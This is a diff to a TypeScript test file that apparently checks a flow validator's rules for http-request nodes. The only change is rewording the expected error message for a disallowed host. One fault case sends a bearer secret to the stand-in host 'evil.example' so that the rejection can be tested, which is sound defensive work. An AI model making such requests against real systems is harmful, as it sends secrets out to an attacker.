@@ -91,7 +91,7 @@ const FAULTS: Array<{ rule: string; node: Node; problems: string[]; more?: FlowD
   {
     rule: 'http-request: a host that is not allowed, an unknown secret',
     node: http({ url: 'http://evil.example/', headers: { authorization: 'Bearer {{secret:other}}' } }),
-    problems: ['a url: there is no allowed host evil.example', 'a headers.authorization: there is no secret other'],
+    problems: ['a url: host evil.example is not allowed by the configuration', 'a headers.authorization: there is no secret other'],
   },
   {
     rule: 'http-request: a secret in the address, a body with GET',
